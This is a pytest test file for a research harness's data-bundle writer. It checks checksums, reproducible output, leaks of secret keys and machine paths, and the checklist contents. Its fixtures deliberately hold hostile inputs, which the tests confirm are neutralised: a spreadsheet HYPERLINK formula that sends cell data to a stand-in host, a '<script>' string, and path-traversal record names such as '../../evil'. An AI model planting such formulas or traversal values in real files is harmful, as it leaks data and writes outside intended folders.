"""The bundle: complete, equal for equal records, and nothing in it that should not leave the house."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from harness.cli import main
from harness.errors import ConfigurationError, HarnessError
from harness.records import merge
from harness.reports.data import write_bundle
from harness.reports.data.columns import TABLES
from harness.reports.data.environment import packages
from harness.reports.data.tidy import without_places
from tests.support.journal_files import ASKED, write_journal
from tests.support.lazy_modules import LazyModule
from tests.support.records import SMALL, failed, finished, metadata, trials, write_file

pq = LazyModule("pyarrow.parquet")

TRIALS = list(trials(SMALL))
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
WORDS = {
    "introduction": "Hello, {theme}.",
    "task": "=Talk | about <b>it</b>.",
    "proposals": [{"theme": "tea"}],
}
INTERVENTION = {
    "name": "nudge",
    "textual": None,
    "functional": "actions_count >= 3",
    "effect": "Think of | more.",
}


def first(group: str, run_id: str, **more: Any) -> dict[str, Any]:
    treated = group == "Treatment"
    return {
        **metadata(group, run_id=run_id),
        "engine": "embedded",
        "model": "m-1",
        "base_url": "http://secret-host.internal:8080/v1",
        "correction": {"enabled": treated, "quality_threshold": 5, "max_attempts": 2},
        "interventions": [INTERVENTION] if treated else [],
        "script": {
            "source": "notebook",
            "sha256": "ab",
            "origin": {"path": "/home/ada/work/x.ipynb"},
            "words": WORDS,
        },
        "population": {"source": "/home/ada/people", "sha256": "cd", "people": 4},
        **more,
    }


@pytest.fixture
def results(tmp_path: Path) -> Path:
    return make(tmp_path / "results")


def make(folder: Path, run_id: str = "r1", **more: Any) -> Path:
    folder.mkdir(exist_ok=True)
    for group in SMALL.groups:
        records: list[dict[str, Any]] = [
            finished(one, SMALL, run_id=run_id) for one in TRIALS if one.cell.group == group
        ]
        records[0]["samples"][0] |= {"justification": FORMULA, "value": None, "reason": "-2 | <script>"}
        broken = failed(TRIALS[0], "no file /home/ada/keys/a.json at http://10.0.0.7:99/v1", run_id=run_id)
        write_file(folder / f"{run_id}_{group}.jsonl", first(group, run_id, **more), [broken, *records])
    return folder


def unpacked(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_everything_is_there_and_the_checksums_agree(results: Path, tmp_path: Path) -> None:
    made = write_bundle(results, tmp_path / "b.zip")
    files = unpacked(tmp_path / "b.zip")
    data = [f"data/{name}.{kind}" for name in TABLES for kind in ("csv", "parquet")]
    others = [
        "README.md",
        "checklist.md",
        "checksums.sha256",
        "codebook.md",
        "environment.json",
        "prompts.json",
    ]
    assert sorted(files) == sorted([*data, *others])
    assert {name: len(content) for name, content in files.items()} == dict(made.files)
    lines = [line.split("  ") for line in files.pop("checksums.sha256").decode().splitlines()]
    assert {name: digest for digest, name in lines} == {
        name: hashlib.sha256(content).hexdigest() for name, content in files.items()
    }


def test_equal_records_give_equal_bytes(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "a.zip")
    again = make(tmp_path / "again")
    write_bundle(again, tmp_path / "b.zip")
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()
    write_bundle(results, tmp_path / "folder")
    for name, content in unpacked(tmp_path / "a.zip").items():
        assert (tmp_path / "folder" / name).read_bytes() == content


def test_the_order_of_tries_in_a_file_changes_nothing(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "a.zip")
    for path in results.glob("*.jsonl"):
        head, *lines = path.read_bytes().splitlines(keepends=True)
        path.write_bytes(head + b"".join(reversed(lines)))
    write_bundle(results, tmp_path / "b.zip")
    one, other = (rows_of(unpacked(tmp_path / name)["data/scores.csv"]) for name in ("a.zip", "b.zip"))
    assert one == other


def test_data_and_codebook_agree(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "b.zip")
    files = unpacked(tmp_path / "b.zip")
    book = files["codebook.md"].decode()
    for name, columns in TABLES.items():
        content = files[f"data/{name}.csv"]
        header = content.decode().splitlines()[0].split(",")
        table = pq.read_table(io.BytesIO(files[f"data/{name}.parquet"]))
        assert table.column_names == [one.name for one in columns]
        assert set(table.column_names) - set(header) == (
            {"calls": {"request", "reply", "tool_calls"}, "events": {"content"}}.get(name, set())
        )
        assert len(rows_of(content)) == table.num_rows
        section = book.split(f"## {name}\n")[1].split("\n## ")[0]
        assert all(f"| `{column}` |" in section for column in table.column_names)


def test_every_request_and_reply_is_in_it(results: Path, tmp_path: Path) -> None:
    write_journal(results / "journal" / "r1.sqlite")
    write_bundle(results, tmp_path / "b.zip")
    files = unpacked(tmp_path / "b.zip")
    (call,) = pq.read_table(io.BytesIO(files["data/calls.parquet"])).to_pylist()
    assert (json.loads(call["request"]), call["reply"]) == (ASKED, "Hello")
    assert "| All prompts as sent | `data/calls.parquet` |" in files["checklist.md"].decode()


def test_without_a_journal_the_checklist_does_not_claim_the_prompts(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "b.zip")
    text = unpacked(tmp_path / "b.zip")["checklist.md"].decode()
    assert "| All prompts as sent | not in this bundle: the run's journal was not with the records" in text


def test_a_key_in_a_request_stops_the_bundle(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_journal(results / "journal" / "r1.sqlite", "the key is s3cret-s3cret")
    monkeypatch.setenv("SOME_API_KEY", "s3cret-s3cret")
    with pytest.raises(HarnessError, match=r"The value of SOME_API_KEY is in data/calls\.parquet, reply"):
        write_bundle(results, tmp_path / "b.zip")


def test_formulas_are_harmless_in_csv_and_whole_in_parquet(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "b.zip")
    files = unpacked(tmp_path / "b.zip")
    for name, content in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(content.decode())):
                assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
    rows = rows_of(files["data/scores.csv"])
    assert {row["justification"] for row in rows} == {"", f"'{FORMULA}"}
    assert {row["reason"] for row in rows} == {"", "'-2 | <script>"}
    table = pq.read_table(io.BytesIO(files["data/scores.parquet"]))
    assert set(table.column("justification").to_pylist()) == {None, FORMULA}
    assert "apostrophe" in files["codebook.md"].decode()


def test_words_corrections_and_interventions_are_there(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "b.zip")
    (run,) = json.loads(unpacked(tmp_path / "b.zip")["prompts.json"])
    assert run["script"]["words"] == WORDS
    assert run["groups"]["Treatment"]["interventions"] == [INTERVENTION]
    assert run["groups"]["Control"] == {
        "correction": {"enabled": False, "quality_threshold": 5, "max_attempts": 2},
        "interventions": [],
        "settings": None,
    }
    assert run["population"]["panels"] == [list(panel) for panel in SMALL.panels]


def test_nothing_tells_whose_machine_it_was(results: Path, tmp_path: Path) -> None:
    import getpass
    import platform

    write_bundle(results, tmp_path / "b.zip")
    for name, content in unpacked(tmp_path / "b.zip").items():
        for part in (b"/home/ada", b"secret-host", b"10.0.0.7", str(tmp_path).encode()):
            assert part not in content, name
    environment = json.loads(unpacked(tmp_path / "b.zip")["environment.json"])
    assert environment["packages"]["persona-harness"] and environment["packages"]["duckdb"]
    said = {str(value) for value in environment.values() if isinstance(value, str)}
    assert not {platform.node(), getpass.getuser()} & said
    assert packages("no-such-package") == {}


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("no file /home/ada/x/y.json", "no file …/y.json"),
        ("'/tmp/a/b' is missing", "'…/b' is missing"),
        ("~/results/a.jsonl", "…/a.jsonl"),
        ("https://user:pw@host:1/v1/x failed", "https://…/v1/x failed"),
        ("either/or and 3/4", "either/or and 3/4"),
        (None, None),
        (7, 7),
    ],
)
def test_places_are_taken_out_of_reasons(text: Any, left: Any) -> None:
    assert without_places(text) == left


def test_a_key_stops_the_bundle(results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_API_KEY", "Think of | more.")
    with pytest.raises(HarnessError, match=r"The value of SOME_API_KEY is in prompts\.json") as caught:
        write_bundle(results, tmp_path / "b.zip")
    assert "Think of" not in str(caught.value)
    assert not (tmp_path / "b.zip").exists()


def test_the_rehearsal_is_marked_everywhere(results: Path, tmp_path: Path) -> None:
    assert write_bundle(results, tmp_path / "b.zip").rehearsal
    files = unpacked(tmp_path / "b.zip")
    for name in ("README.md", "checklist.md", "codebook.md"):
        assert "REHEARSAL" in files[name].decode().split("\n## ")[0]
    assert json.loads(files["environment.json"])["rehearsal"] is True
    assert all(run["rehearsal"] for run in json.loads(files["prompts.json"]))
    for name in ("experiments", "trials", "scores", "call_counts"):
        assert {row["rehearsal"] for row in rows_of(files[f"data/{name}.csv"])} == {"True"}


def test_a_real_model_is_no_rehearsal(tmp_path: Path) -> None:
    results = make(tmp_path / "results", provider="openai")
    assert not write_bundle(results, tmp_path / "b.zip").rehearsal
    for name, content in unpacked(tmp_path / "b.zip").items():
        if name.endswith(".md"):
            assert "REHEARSAL" not in content.decode()


def test_the_checklist_is_filled_in(results: Path, tmp_path: Path) -> None:
    write_bundle(results, tmp_path / "b.zip")
    text = unpacked(tmp_path / "b.zip")["checklist.md"].decode()
    for line in (
        "| Requested model | m-1 |",
        "| Temperature | 1.2 |",
        "| Arm Control | correction off; no intervention |",
        "| Arm Treatment | correction below 5, up to 2 times; intervention nudge |",
        "| Trials planned, finished | 16, 16 |",
        "| Values planned, obtained | 64, 62, missing 2 (by metric below) |",
        "| Failed tries | 2 ModelCallError |",
        "| Refusals | not recorded; *to be filled in by the authors* |",
        "| Ethics review | *to be filled in by the authors* |",
        "| Personas | 4 from …/people |",
        "| Treatment | Fluency | 16 | 15 | 1 | 0 |",
    ):
        assert line in text, line


def test_the_checklist_has_analysis_and_departures_from_the_meta_file(results: Path, tmp_path: Path) -> None:
    def answers() -> str:
        write_bundle(results, tmp_path / "b.zip")
        return unpacked(tmp_path / "b.zip")["checklist.md"].decode()

    assert "| Statistical analysis | not recorded; *to be filled in by the authors* |" in answers()
    one = {
        "primary": {"method": "paired t", "unit": "blocks", "estimand": "these people"},
        "adjustment": "Holm over 2 metrics",
    }
    meta = {
        "analysis": {"comparisons": [one, one]},
        "instrument": {"checks": [{"level": "WARN", "name": "drift"}, {"level": "PASS", "name": "words"}]},
        "plan": {"deviations": ["base_url is http://10.0.0.7:99/v1, not planned"]},
        "exploratory": True,
        "looks": 3,
    }
    (results / "exp_3_r1.meta.json").write_text(json.dumps(meta))
    text = answers()
    for line in (
        "| Statistical analysis | paired t, unit blocks, claimed for these people |",
        "| Corrections for multiplicity | Holm over 2 metrics |",
        "| Exploratory, beyond a locked plan | yes |",
        "| Looks at the results | 3 |",
        "| Validity checks that fail or warn | WARN drift |",
    ):
        assert line in text, line
    assert "| Deviations from the plan | base_url is" in text
    assert "10.0.0.7" not in text


def test_a_locked_plan_travels_with_its_experiment(results: Path, tmp_path: Path) -> None:
    from harness.records.plans import lock

    content = {
        "experiment": "exp_3",
        "fingerprint": "f",
        "n": {"reps": 2},
        "looks": 1,
        "locked": "x",
        "settings": {},
    }
    plan = lock(content, results)
    assert plan.path is not None
    write_bundle(results, tmp_path / "b.zip")
    files = unpacked(tmp_path / "b.zip")
    assert files[f"plan/{plan.path.name}"] == plan.path.read_bytes()
    assert f"`plan/{plan.path.name}`" in files["checklist.md"].decode()


def test_one_run_of_two(results: Path, tmp_path: Path) -> None:
    make(results, "r2")
    write_bundle(results, tmp_path / "b.zip", runs=["r2"])
    files = unpacked(tmp_path / "b.zip")
    for name in ("experiments", "trials", "scores", "call_counts"):
        assert {row["run_id"] for row in rows_of(files[f"data/{name}.csv"])} == {"r2"}
    assert "run r1" not in files["checklist.md"].decode()
    with pytest.raises(ConfigurationError, match="expected one of r1, r2"):
        write_bundle(results, tmp_path / "c.zip", runs=["r9"])


def test_names_in_records_name_no_file(tmp_path: Path) -> None:
    results = tmp_path / "results"
    results.mkdir()
    line = {**first("Control", "../../evil"), "experiment": "/etc/x"}
    record = {**finished(TRIALS[0], SMALL), "group": "../Control"}
    write_file(results / "a.jsonl", line, [record])
    write_bundle(results, tmp_path / "b.zip")
    assert not [name for name in unpacked(tmp_path / "b.zip") if "evil" in name or ".." in name]


def test_no_records_no_bundle_and_nothing_is_overwritten(results: Path, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    with pytest.raises(ConfigurationError, match="No records in"):
        write_bundle(tmp_path / "empty", tmp_path / "b.zip")
    with pytest.raises(ConfigurationError, match="is there already"):
        write_bundle(results, results)


def test_the_command_says_what_it_wrote(
    results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(
        sys, "argv", ["harness", "bundle", "--results", str(results), "--out", str(tmp_path / "b.zip")]
    )
    with pytest.raises(SystemExit) as left:
        main()
    assert not left.value.code
    said = capsys.readouterr().out
    assert "data/scores.parquet" in said and "REHEARSAL" in said


def test_merging_leaves_the_same_counts(results: Path, tmp_path: Path) -> None:
    import harness.stats as stats

    (artifact,) = merge(sorted(results.glob("*.jsonl")), tmp_path / "x.json", stats=stats)
    counts = json.loads(artifact.with_suffix(".meta.json").read_bytes())["samples"]
    write_bundle(results, tmp_path / "b.zip")
    rows = rows_of(unpacked(tmp_path / "b.zip")["data/scores.csv"])
    for group, metrics in counts.items():
        for metric, count in metrics.items():
            own = [row for row in rows if (row["group"], row["metric"]) == (group, metric)]
            assert (len(own), sum(row["value"] != "" for row in own)) == (
                count["expected"],
                count["obtained"],
            )
